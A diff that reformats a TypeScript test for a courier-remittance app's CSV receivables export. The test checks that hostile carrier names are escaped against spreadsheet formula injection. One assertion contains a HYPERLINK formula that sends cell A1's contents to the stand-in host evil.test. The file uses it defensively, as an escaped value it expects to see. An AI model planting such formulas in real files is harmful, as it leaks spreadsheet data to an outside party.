@@ -23,10 +23,16 @@ const awbs: Record<string, string> = {};
 
 beforeAll(async () => {
   const services = PUSH_RATES.catalogue.services.map((s) => (HOSTILE[s.id] ? { ...s, name: HOSTILE[s.id]! } : s));
-  ctx = await createTestApp({ rates: { ...PUSH_RATES, catalogue: { ...PUSH_RATES.catalogue, services, byId: new Map(services.map((s) => [s.id, s])) } } });
+  ctx = await createTestApp({
+    rates: {
+      ...PUSH_RATES,
+      catalogue: { ...PUSH_RATES.catalogue, services, byId: new Map(services.map((s) => [s.id, s])) },
+    },
+  });
   const owner = await merchantWithCityWarehouse(ctx);
   apiKey = owner.apiKey;
-  for (const carrierId of Object.keys(HOSTILE)) [awbs[carrierId]] = (await shipCod(ctx, owner, [998], { carrierId })) as [string];
+  for (const carrierId of Object.keys(HOSTILE))
+    [awbs[carrierId]] = (await shipCod(ctx, owner, [998], { carrierId })) as [string];
   ctx.clock.set('2026-12-10T06:30:00.000Z');
   await importRemittances(ctx, apiKey, dakiyaFile([[awbs[SHADOWFAX]!, '950.50', 'UTR1', '2026-12-01']]));
   // The other three are unpaid past their days: three missing_from_remittance beside the short payment.
@@ -41,8 +47,12 @@ describe('CSV exports', () => {
     const response = await get(ctx, apiKey, `${V1}/cod/receivables/export`);
     expect(response.statusCode).toBe(200);
     const rows = rowsOf(response.body);
-    expect(rows[0]).toBe('awb,carrier_id,courier_name,cod_amount,delivered_at,expected_date,state,received_amount,utr,remittance_date,overdue');
-    const names = Object.fromEntries(rows.slice(1).map((row) => [row.split(',')[0], row.split(',').slice(2).join(',')]));
+    expect(rows[0]).toBe(
+      'awb,carrier_id,courier_name,cod_amount,delivered_at,expected_date,state,received_amount,utr,remittance_date,overdue',
+    );
+    const names = Object.fromEntries(
+      rows.slice(1).map((row) => [row.split(',')[0], row.split(',').slice(2).join(',')]),
+    );
     expect(names[awbs[SHADOWFAX]!]).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""Shadowfax""\)",998,/);
     expect(names[awbs[DELHIVERY_SURFACE]!]).toMatch(/^'\+Delhivery,998,/);
     expect(names[awbs[DTDC]!]).toMatch(/^'-DTDC,998,/);
